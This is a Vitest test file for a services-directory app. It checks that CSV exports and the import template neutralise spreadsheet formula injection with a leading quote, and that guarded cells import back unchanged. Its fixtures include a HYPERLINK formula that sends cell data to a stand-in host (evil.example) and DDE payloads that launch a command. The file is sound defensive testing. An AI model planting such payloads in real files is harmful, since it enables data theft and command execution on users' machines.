// Every CSV file the app writes is safe to open in a spreadsheet: a value that starts like a formula
// (=HYPERLINK(…) in an organisation's name) comes out behind a single quote, in the HSDS tables, the
// network's nodes and edges and the import template; and such a cell, pasted into an import file,
// reads back as the value it stands for.
import { beforeAll, describe, expect, it } from "vitest";
import { parse } from "csv-parse/sync";
import { strFromU8, unzipSync } from "fflate";
import type { Actor } from "@/lib/auth/policy";
import { db } from "@/lib/db";
import { csvTemplate } from "@/lib/hsds/csv-format";
import { exportCsvZip } from "@/lib/hsds/export/formats";
import { applyImport } from "@/lib/hsds/import/run";
import { edgesCsv, nodesCsv } from "@/lib/network/export";
import { parseNetworkFilter } from "@/lib/network/filter";
import { networkView } from "@/lib/network/view";
import { seedReferenceOnly } from "@/tests/support/seed";

const hyperlink = '=HYPERLINK("https://evil.example/?d="&A1,"Klick")';
const dde = "+cmd|' /C calc'!A0";
const at = "@SUM(1+1)*cmd|' /C calc'!A0";
const minus = "-2+3+cmd|' /C calc'!A0";

let coordinator: Actor;

beforeAll(async () => {
  await seedReferenceOnly();
  const user = await db.user.create({ data: { email: "koordination@example.org", name: "K", role: "coordinator" } });
  coordinator = { id: user.id, role: "coordinator", organizationId: null };
  const evil = await db.organization.create({
    data: { slug: "evil", name: hyperlink, shortName: dde, type: "migrant_organisation", status: "published" },
  });
  const other = await db.organization.create({
    data: { slug: "other", name: minus, type: "kita", status: "published" },
  });
  await db.relationship.create({ data: { fromId: evil.id, toId: other.id, type: "cooperates_with" } });
  const location = await db.location.create({
    data: {
      organizationId: evil.id,
      name: at,
      street: "Markt 1",
      postcode: "52062",
      latitude: 50.7757,
      longitude: 6.0839,
    },
  });
  await db.offer.create({
    data: {
      slug: "evil-offer",
      organizationId: evil.id,
      status: "published",
      phone: "+49 241 123456",
      minAge: 3,
      translations: { create: { locale: "de", title: at, summary: hyperlink } },
      locations: { create: { locationId: location.id } },
    },
  });
});

// A cell a spreadsheet would evaluate: starts with a trigger and is not a plain negative number.
const live = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^-\d+(?:[.,]\d+)?$/.test(cell);
const cellsOf = (csv: string) => (parse(csv.replace(/^\uFEFF/, ""), { relax_column_count: true }) as string[][]).flat();

describe("CSV exports and formula injection", () => {
  it("the HSDS tables put a quote before every value that starts like a formula", async () => {
    const files = unzipSync(await exportCsvZip());
    const all = Object.values(files).flatMap((bytes) => cellsOf(strFromU8(bytes)));
    expect(all.filter(live)).toEqual([]);
    const cells = (file: string) => cellsOf(strFromU8(files[file]!));
    expect(cells("organizations.csv")).toEqual(expect.arrayContaining([`'${hyperlink}`, `'${dde}`, `'${minus}`]));
    expect(cells("services.csv")).toEqual(expect.arrayContaining([`'${at}`]));
    expect(cells("locations.csv")).toEqual(expect.arrayContaining([`'${at}`]));
    // A phone number is guarded too: unguarded, a spreadsheet would compute it (and show #NULL!).
    expect(cells("phones.csv")).toEqual(expect.arrayContaining(["'+49 241 123456"]));
  });

  it("the network's nodes and edges put a quote before every value that starts like a formula", async () => {
    const view = await networkView(parseNetworkFilter({}), null, "de");
    for (const csv of [nodesCsv(view.data, view.metrics), edgesCsv(view.data)]) {
      expect(cellsOf(csv).filter(live)).toEqual([]);
      // The graph labels an organisation with its short name where it has one.
      expect(cellsOf(csv)).toEqual(expect.arrayContaining([`'${dde}`, `'${minus}`]));
    }
  });

  it("the import template holds no live formula", () => {
    expect(cellsOf(csvTemplate()).filter(live)).toEqual([]);
  });

  it("a guarded cell pasted into an import file reads back as the value it stands for", async () => {
    const files = unzipSync(await exportCsvZip());
    const exported = cellsOf(strFromU8(files["organizations.csv"]!)).find((c) => c.includes("HYPERLINK"))!;
    expect(exported).toBe(`'${hyperlink}`);
    const row = ["kopie-1", "kopie-verein", exported, "migrant_organisation", "Kopie", "Aus der Tabelle."];
    const text = [
      "external_id,organization_external_id,organization_name,organization_type,title_de,summary_de",
      row.map((cell) => `"${cell.replace(/"/g, '""')}"`).join(","),
    ].join("\n");
    const outcome = await applyImport({ name: "kopie.csv", text }, coordinator);
    expect(outcome, JSON.stringify(outcome).slice(0, 400)).toMatchObject({ ok: true, data: { applied: true } });
    const copy = await db.organization.findUniqueOrThrow({
      where: { externalId: "kopie-verein" },
      select: { name: true },
    });
    expect(copy.name).toBe(hyperlink);
  });
});
